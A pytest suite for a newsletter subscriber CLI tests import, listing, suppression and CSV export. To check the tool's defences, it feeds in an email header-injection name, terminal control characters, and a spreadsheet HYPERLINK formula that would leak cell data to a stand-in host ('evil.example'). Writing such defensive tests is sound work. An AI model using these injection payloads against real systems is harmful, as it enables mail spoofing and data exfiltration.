"""`dispatch subscribers …`, `dispatch segments` and `dispatch db` as a user runs them."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path


def run(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "dispatch", *args], cwd=project,
                          check=False, capture_output=True, text=True, timeout=120)


def test_subscriber_lifecycle(project):
    assert run(project, "db", "upgrade").returncode == 0
    assert (project / "dispatch.db").exists()
    added = run(project, "subscribers", "add", "Ana@Example.com", "--name", "Ana",
                "--topics", "east-asia,security", "--tz", "Asia/Seoul")
    assert added.returncode == 0, added.stderr
    (project / "in.csv").write_text("email,name,topics\nbo@example.com,Bo,economy|diplomacy\n"
                                    "a@,x,\n", encoding="utf-8")
    imported = run(project, "subscribers", "import", "in.csv")
    assert imported.returncode == 0
    assert "in.csv:3: a@: invalid address" in imported.stderr
    assert "2 row(s) read: added 1, updated 0, rejected 1" in imported.stdout

    listed = json.loads(run(project, "subscribers", "list", "--json").stdout)
    assert [p["email"] for p in listed] == ["Ana@Example.com", "bo@example.com"]
    assert set(listed[0]) >= {"email", "name", "topics", "timezone", "status"}
    assert listed[0]["topics"] == ["east-asia", "security"]

    assert run(project, "subscribers", "set", "ANA@example.com", "--status",
               "unsubscribed").returncode == 0
    active = json.loads(run(project, "subscribers", "list", "--status", "active",
                            "--json").stdout)
    assert [p["email"] for p in active] == ["bo@example.com"]
    everyone = json.loads(run(project, "subscribers", "list", "--json").stdout)
    assert len(everyone) == 2  # every status unless filtered
    found = json.loads(run(project, "subscribers", "list", "--search", "BO@", "--json").stdout)
    assert [p["email"] for p in found] == ["bo@example.com"]

    segments = json.loads(run(project, "segments", "--json").stdout)
    counts = {s["segment"]: s["active"] for s in segments}
    assert counts == {"asia-watchers": 0, "security-desk": 0}

    again = run(project, "subscribers", "add", "ana@example.com")
    assert again.returncode == 1 and "in the list as unsubscribed" in again.stderr
    assert "--resubscribe" in again.stderr
    assert run(project, "subscribers", "forget", "ana@EXAMPLE.com").returncode == 0
    refused = run(project, "subscribers", "add", "ana@example.com")
    assert refused.returncode == 1 and "suppressed (forgotten)" in refused.stderr

    exported = run(project, "subscribers", "export")
    assert exported.stdout.splitlines() == ["email,name,topics,timezone,status",
                                            "bo@example.com,Bo,diplomacy;economy,,active"]


def test_bad_input_is_one_line_without_traceback(project):
    for args, expected in [
        (("subscribers", "add", "not-an-address"), "invalid address"),
        (("subscribers", "add", "x@example.com", "--topics", "astrology"), "unknown topic"),
        (("subscribers", "add", "x@example.com", "--tz", "Mars/Base"), "unknown IANA"),
        (("subscribers", "list", "--segment", "nope"), "unknown segment"),
        # The console's subscribers page reads its filters with the same parse_filter.
        (("subscribers", "list", "--topic", "securty"), "--topic: unknown topic 'securty'"),
        (("subscribers", "list", "--status", "actve"), "did you mean 'active'?"),
        (("subscribers", "import", "missing.csv"), "missing.csv: file not found"),
    ]:
        result = run(project, *args)
        assert result.returncode != 0, args
        assert expected in result.stderr, (args, result.stderr)
        assert "Traceback" not in result.stderr


def test_dry_run_import_writes_nothing(project):
    (project / "in.csv").write_text("email\nz@example.com\n")
    result = run(project, "subscribers", "import", "in.csv", "--dry-run")
    assert "would add 1" in result.stdout
    assert json.loads(run(project, "subscribers", "list", "--json").stdout) == []


def test_names_unfit_for_a_header_are_refused_on_add_and_set(project):
    assert run(project, "subscribers", "add", "bo@example.com", "--name", "Bo").returncode == 0
    for name, expected in [
        ("Ana\r\nBcc: all@example.org", "name contains the control character U+000D at "
                                        "position 4"),
        ("Ana\x07", "name contains the control character U+0007"),
        ("\x1b[2JAna", "name contains the control character U+001B"),
        ("x" * 10_000, "name longer than 200 characters (10000)"),
    ]:
        added = run(project, "subscribers", "add", "ana@example.com", "--name", name)
        changed = run(project, "subscribers", "set", "bo@example.com", "--name", name,
                      "--topics", "economy")
        for result, email in ((added, "ana@example.com"), (changed, "bo@example.com")):
            assert result.returncode == 1, result.stderr
            assert result.stderr.startswith(f"{email}: {expected}"), result.stderr
            assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    listed = json.loads(run(project, "subscribers", "list", "--json").stdout)
    assert [(p["email"], p["name"], p["topics"]) for p in listed] == [
        ("bo@example.com", "Bo", [])]  # nothing changed


def test_export_is_safe_in_a_spreadsheet_and_imports_back(project):
    # A sign-up form or an import can carry such names; opened in a spreadsheet, the export
    # must show them as text rather than evaluate them.
    (project / "in.csv").write_text(
        'email,name,topics\n'
        'eve@example.com,"=HYPERLINK(""https://evil.example/""&A1,""x"")",economy\n'
        '-ana@example.com,-Ana,\n', encoding="utf-8")
    assert run(project, "subscribers", "import", "in.csv").returncode == 0
    exported = run(project, "subscribers", "export").stdout
    assert exported.splitlines() == [
        "email,name,topics,timezone,status",
        'eve@example.com,"\'=HYPERLINK(""https://evil.example/""&A1,""x"")",economy,,active',
        "'-ana@example.com,'-Ana,,,active"]
    before = run(project, "subscribers", "list", "--json").stdout
    (project / "again.csv").write_text(exported.replace(",status", "").replace(",active", ""))
    again = run(project, "subscribers", "import", "again.csv")
    assert "added 0, updated 2, rejected 0" in again.stdout, again.stdout
    assert run(project, "subscribers", "list", "--json").stdout == before
